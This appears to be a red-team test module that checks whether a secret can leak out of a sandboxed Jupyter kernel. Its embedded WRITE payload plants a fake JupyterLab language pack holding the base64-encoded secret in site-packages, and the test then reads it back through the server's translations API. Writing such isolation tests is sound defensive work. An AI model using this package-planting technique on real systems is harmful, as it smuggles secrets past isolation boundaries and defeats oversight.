from __future__ import annotations

from tests.redteam.channel import channel
from tests.redteam.targets import Target

WRITE = """
import base64, json, os, site, sys
text = base64.b64encode(secret).decode()
for folder in [site.getusersitepackages(), *sys.path[1:]]:
    try:
        package = os.path.join(folder, "carried_pack", "locale", "fr_FR", "LC_MESSAGES")
        os.makedirs(package, exist_ok=True)
    except OSError:
        continue
    open(os.path.join(folder, "carried_pack", "__init__.py"), "w").close()
    json.dump({"": {"domain": "jupyterlab", "x": text}, "x": [text]},
              open(os.path.join(package, "jupyterlab.json"), "w"))
    info = os.path.join(folder, "carried_pack-1.0.dist-info")
    os.makedirs(info, exist_ok=True)
    open(os.path.join(info, "METADATA"), "w").write("Metadata-Version: 2.1\\nName: carried-pack\\nVersion: 1.0\\n")
    open(os.path.join(info, "entry_points.txt"), "w").write(
        "[jupyterlab.languagepack]\\nfr_FR = carried_pack\\n")
"""


@channel(
    "translations",
    "A language pack that a kernel installs among the server's packages",
    closed_by="the desk's packages are in its read-only image",
    stock="this image's packages belong to root and its environment takes none from the user's home",
)
def attack(site: Target, secret: bytes) -> bytes | None:
    site.run(WRITE)
    return site.get("lab/api/translations/fr_FR").body + site.get("lab/api/translations").body
